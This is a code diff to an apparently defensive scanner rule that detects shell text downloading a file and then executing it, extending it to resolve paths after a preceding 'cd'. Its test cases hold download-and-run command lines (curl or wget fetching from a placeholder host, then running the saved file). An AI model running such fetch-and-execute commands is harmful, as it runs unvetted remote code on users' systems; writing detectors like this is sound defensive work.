@@ -47,6 +47,12 @@ static RUN: LazyLock<Regex> = LazyLock::new(|| {
     .expect("run pattern")
 });
 
+/// `cd DIR` as a command of its own: where a relative output file of the same line lands.
+#[allow(clippy::expect_used)]
+static CD: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(r#"(?:^|[;&|(]|&&)\s*cd\s+["']?([^\s"';&|)]+)"#).expect("cd pattern")
+});
+
 /// Hosts whose installers say to download to a file first (the RCE024 list).
 const KNOWN_INSTALLERS: &[&str] = &[
     "sh.rustup.rs",
@@ -84,10 +90,12 @@ fn find_download_then_run(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hi
             end -= 1;
         }
         let after = &body[whole.end()..end];
+        let line_start = body[..whole.start()].rfind('\n').map_or(0, |i| i + 1);
+        let directory = working_directory(&body[line_start..whole.start()]);
         let Some(run) = RUN.captures_iter(after).find(|c| {
-            c.get(1)
-                .or_else(|| c.get(2))
-                .is_some_and(|m| same_file(m.as_str(), file))
+            c.get(1).or_else(|| c.get(2)).is_some_and(|m| {
+                same_file(m.as_str(), file) || in_directory(m.as_str(), directory, file)
+            })
         }) else {
             continue;
         };
@@ -116,6 +124,28 @@ fn same_file(run: &str, file: &str) -> bool {
             .replace(['{', '}'], "")
     };
     clean(run) == clean(file)
+}
+
+/// The directory the command line before a download changed to (`cd C:/ && curl … -o t.exe`), when
+/// the last `cd` names one.
+fn working_directory(before: &str) -> Option<&str> {
+    let last = CD.captures_iter(before).last()?;
+    let directory = last.get(1)?.as_str();
+    (!directory.starts_with('-') && directory != "~").then_some(directory)
+}
+
+/// Whether `run` is the relative output `file` in `directory` (`C:/t.exe`, `/tmp/t.sh`, `C:\\t.exe`).
+fn in_directory(run: &str, directory: Option<&str>, file: &str) -> bool {
+    let Some(directory) = directory else {
+        return false;
+    };
+    let file = file.trim_start_matches("./");
+    if file.starts_with(['/', '\\', '$', '~']) || file.contains(':') {
+        return false;
+    }
+    let slashes = |s: &str| s.trim_matches(['"', '\'']).replace('\\', "/");
+    let joined = format!("{}/{file}", slashes(directory).trim_end_matches('/'));
+    slashes(run) == joined
 }
 
 #[cfg(test)]
@@ -159,6 +189,9 @@ mod tests {
             "wget -q https://x.example.invalid/a.py -O a.py; python3 a.py\n",
             "curl -fsSL -o \"$T\" https://x.example.invalid/b\nchmod +x \"$T\"\n\"$T\" --quiet\n",
             "curl --output=./run.sh https://x.example.invalid/r && bash run.sh\n",
+            // The output is relative to the directory the line changed to; the run names it in full.
+            "cd /tmp && curl -s https://x.example.invalid/t -o t.bin\n/tmp/t.bin\n",
+            "cd C:/ && curl https://x.example.invalid/t.exe -o t.exe\nC:\\t.exe\n",
         ] {
             assert_eq!(hits(text).len(), 1, "{text}");
         }
@@ -171,6 +204,8 @@ mod tests {
             "curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh\n",
             "curl -s https://x.example.invalid/a -o - | jq .\n",
             "wget https://x.example.invalid/a.tgz -O a.tgz && tar xf a.tgz\n",
+            // Another directory's file of the same name.
+            "cd /tmp && curl -s https://x.example.invalid/t -o t.bin\n/opt/t.bin\n",
         ] {
             assert!(hits(text).is_empty(), "{text}: {:?}", hits(text));
         }
